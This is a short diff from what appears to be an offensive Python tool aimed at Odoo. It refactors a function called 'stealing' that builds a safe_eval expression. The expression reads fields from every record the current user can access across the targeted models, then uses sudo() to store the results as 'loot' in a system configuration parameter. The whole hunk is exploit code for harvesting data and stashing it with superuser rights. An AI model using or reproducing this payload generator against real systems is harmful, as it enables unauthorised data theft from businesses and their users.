@@ -57,8 +57,8 @@ def found_in(loot):
 def stealing(env):
     """Python for `safe_eval`, one true expression: reads each text as who runs it and puts it aside as superuser."""
     reads = ", ".join(
-        f"[r[f] for r in ({env}['{model}'].search([]) if {env}['{model}'].has_access('read') else []) for f in {fields!r} if f in r._fields]"
-        for model, fields in HELD_IN.items()
+        f"[r[f] for r in ({of}.search([]) if {of}.has_access('read') else []) for f in {fields!r} if f in r._fields]"
+        for of, fields in ((f"{env}['{model}']", fields) for model, fields in HELD_IN.items())
     )
     put = f"{env}['ir.config_parameter'].sudo().set_param('{LOOT}', str([{reads}]))"
     return f"({put} or True)"
